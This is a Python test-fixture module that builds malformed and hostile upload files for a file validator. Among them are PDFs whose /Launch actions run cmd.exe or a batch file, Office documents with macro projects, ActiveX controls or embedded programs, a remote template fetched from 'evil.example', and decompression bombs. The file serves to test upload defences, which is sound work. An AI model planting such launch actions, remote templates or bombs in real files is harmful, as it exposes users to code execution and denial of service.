"""Files that must not be accepted: for each reason, what is wrong with a file of each type."""

from collections.abc import Callable, Mapping
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile
from zlib import compress

from pypdf import PdfWriter

from tests.support.builders.uploads import DOCX, JPEG, MAIN_TYPES, PDF, TYPES, XLSX, office, pdf, png

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
MACRO_MAIN = {
    DOCX: "application/vnd.ms-word.document.macroEnabled.main+xml",
    XLSX: "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
}
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TEMPLATE, LINK = f"{RELATIONS}/attachedTemplate", f"{RELATIONS}/hyperlink"
FOLDER = {DOCX: "word", XLSX: "xl"}
Files = Mapping[str, bytes]
Broken = Callable[[str], Files]


def written(writer: PdfWriter) -> bytes:
    packed = BytesIO()
    writer.write(packed)
    return packed.getvalue()


def protected(password: str, algorithm: str = "AES-256") -> bytes:
    writer = PdfWriter(clone_from=BytesIO(pdf()))
    writer.encrypt(password, "only the owner knows", algorithm=algorithm)
    return written(writer)


def attaching(name: str) -> bytes:
    writer = PdfWriter(clone_from=BytesIO(pdf()))
    writer.add_attachment(name, b"MZ")
    return written(writer)


def relation(kind: str, target: str, mode: str = "External") -> str:
    return f'<Relationships><Relationship Id="r" Type="{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'


def repacked(content: bytes, change: Callable[[ZipFile], None]) -> bytes:
    """An office file after a change of its table."""
    packed = BytesIO(content)
    with ZipFile(packed, "a", ZIP_DEFLATED) as package:
        change(package)
        package.comment = b"changed"
    return packed.getvalue()


def twice(package: ZipFile) -> None:
    package.filelist.append(package.filelist[-1])


def encrypted(package: ZipFile) -> None:
    for part in package.filelist:
        part.flag_bits |= 1


def declare_4_gb(package: ZipFile) -> None:
    package.filelist[-1].file_size = 2**32 - 2


def nested(media_type: str, depth: int) -> bytes:
    content = office(media_type)
    for _ in range(depth):
        content = office(media_type, parts={f"{FOLDER[media_type]}/embeddings/inner.xlsx": content})
    return content


def by_extension(media_type: str) -> bytes:
    """A sound file whose main part has the type that its extension has, as some programs write it."""
    types = f'<Types><Default Extension="xml" ContentType="{MAIN_TYPES[media_type]}"/></Types>'
    return office(media_type, parts={"[Content_Types].xml": types})


# --- what is wrong with a file of each type -------------------------------------------------------


def of_no_type(media_type: str) -> Files:
    content = TYPES[media_type]
    return {
        "text": b"Our statement of support",
        "a program before it": b"MZ" + content,
        "cut at the front": content[1:],
        "white space before it": b"\n" + content,
        **{f"really {other}": TYPES[other] for other in TYPES if other != media_type},
    }


def damaged(media_type: str) -> Files:
    content = TYPES[media_type]
    common = {f"cut to {part} %": content[: max(9, len(content) * part // 100)] for part in (10, 25, 50, 75, 90, 97)}
    match media_type:
        case "application/pdf":
            own = {
                "bare": b"%PDF-1.7\n%%EOF\n",
                "no pages": content.replace(b"/Pages 2", b"/Sages 2"),
                "page missing": content.replace(b"3 0 obj", b"9 0 obj").replace(b"/Type /Page ", b"/Type /Rage "),
                "contents missing": content.replace(b"/Contents 4", b"/Contents 8"),
                "no filter known": pdf(contents=b"BT").replace(b"<</Length 2>>", b"<</Length 2 /Filter /Nought>>"),
            }
        case "image/png":
            own = {
                "checksum": content.replace(b"IEND\xae", b"IEND\xaf"),
                "few pixels": png(40, 40, bytes(40)),
                "no pixels": png(0, 0),
                "not packed": content.replace(b"IDATx", b"IDATy"),
            }
        case "image/jpeg":
            own = {
                "no scan": content.replace(b"\xff\xda", b"\xff\xfe"),
                "no frame": content.replace(b"\xff\xc0", b"\xff\xfe"),
                "no size": content.replace(b"\x08\x00\x08\x00\x08\x01", b"\x08\x00\x00\x00\x00\x01"),
                "short frame": content.replace(b"\xff\xc0\x00\x0b", b"\xff\xc0\x00\x03"),
            }
        case _:
            own = {
                "checksum": spoilt(content),
                "a part twice": repacked(content, twice),
                "another table": content[:-22] + office(media_type, parts={"docProps/app.xml": "<p/>"})[-22:],
                "a later zip": content.replace(b"PK\x01\x02\x14\x03\x14\x00", b"PK\x01\x02\x14\x03\x63\x00"),
                "not well-formed": office(media_type, parts={main_part(media_type): "<document>"}),
                "another root": office(media_type, parts={main_part(media_type): "<html/>"}),
                "entities": office(media_type, parts={main_part(media_type): "<!DOCTYPE d [<!ENTITY a 'b'>]><d/>"}),
                "no list": office(media_type, parts={"[Content_Types].xml": "<Types"}),
            }
    return common | own


def main_part(media_type: str) -> str:
    return {DOCX: "word/document.xml", XLSX: "xl/workbook.xml"}[media_type]


def spoilt(content: bytes) -> bytes:
    """The same with a wrong checksum of its last part, in the table."""
    start = content.rindex(b"PK\x01\x02") + 16
    return content[:start] + bytes(4) + content[start + 4 :]


def running(media_type: str) -> Files:
    match media_type:
        case "application/pdf":
            return {
                "launches": pdf(catalog=b"/OpenAction <</S /Launch /F (cmd.exe)>>"),
                "launches when clicked": pdf(page=b"/Annots [<</Subtype /Link /A <</S /Launch /F (a.bat)>>>>]"),
                "attaches a program": attaching("plan.pdf.exe"),
                "pins a program": pdf(page=b"/Annots [<</Subtype /FileAttachment /FS <</F (run.hta)>>>>]"),
            }
        case "image/png" | "image/jpeg":
            return {}
    folder = FOLDER[media_type]
    part = '<Override PartName="/{}" ContentType="{}"/>'
    vba = part.format(f"{folder}/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    vba_by_extension = '<Default Extension="BIN" ContentType="application/vnd.ms-office.vbaProject"/>'
    control = part.format(f"{folder}/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
    return {
        "macros renamed": office(
            media_type, main_type=MACRO_MAIN[media_type], listed=vba, parts={f"{folder}/vbaProject.bin": OLE}
        ),
        "macros beside": office(media_type, listed=vba, parts={f"{folder}/vbaProject.bin": b"packed"}),
        "macros by their extension": office(media_type, listed=vba_by_extension, parts={f"{folder}/a.bin": b"packed"}),
        "macros as a picture": office(media_type, parts={f"{folder}/media/image1.png": OLE}),
        "control": office(media_type, listed=control, parts={f"{folder}/activeX/activeX1.xml": "<ocx/>"}),
        "program": office(media_type, parts={f"{folder}/embeddings/setup.bin": b"MZ\x90\x00"}),
        "script by its name": office(media_type, parts={f"{folder}/media/run.VBS": "MsgBox 1"}),
        "template from elsewhere": office(
            media_type, parts={f"{folder}/_rels/settings.xml.rels": relation(TEMPLATE, "https://evil.example/t.dotm")}
        ),
        "macros in an embedded sheet": office(
            media_type,
            parts={f"{folder}/embeddings/a.xlsx": office(XLSX, listed=vba, parts={"xl/vbaProject.bin": OLE})},
        ),
    }


def closed(media_type: str) -> Files:
    match media_type:
        case "application/pdf":
            return {
                "password": protected("secret"),
                "old password": protected("secret", "RC4-128"),
                "rights of another maker": pdf(trailer=b"/Encrypt <</Filter /FoxLock /V 4>> /ID [(a) (a)]"),
            }
        case "image/png" | "image/jpeg":
            return {}
    return {
        "password": OLE + "EncryptedPackage".encode("utf-16-le"),
        "zipped under a password": repacked(TYPES[media_type], encrypted),
    }


def empty(media_type: str) -> Files:
    blank = PdfWriter()
    blank.add_blank_page(612, 792)
    pages = {"blank": written(blank), "only spaces": pdf(contents=b"  \n"), "no page": written(PdfWriter())}
    return {"no bytes": b"", **(pages if media_type == PDF else {})}


def bomb_of_a_page() -> bytes:
    packed = compress(bytes(60_000_000), 9)
    plain = b"<</Length %d>>" % len(packed)
    return pdf(contents=packed).replace(plain, plain[:-2] + b" /Filter /FlateDecode>>")


def endless(media_type: str) -> Files:
    match media_type:
        case "application/pdf":
            return {"unpacks without end": bomb_of_a_page()}
        case "image/png":
            return {"too many pixels": png(60_000, 60_000, b"")}
        case "image/jpeg":
            return {"too many pixels": TYPES[JPEG].replace(b"\x08\x00\x08\x00\x08\x01", b"\x08\xff\xff\xff\xff\x01")}
    zeros = office(media_type, parts={f"{FOLDER[media_type]}/media/zeros.bin": bytes(1_000_000)})
    return {"unpacks without end": repacked(zeros, declare_4_gb), "nested": nested(media_type, 4)}


BROKEN: Mapping[str, Broken] = {
    "type_not_allowed": of_no_type,
    "file_damaged": damaged,
    "program_inside": running,
    "file_protected": closed,
    "file_empty": empty,
    "file_too_complex": endless,
}
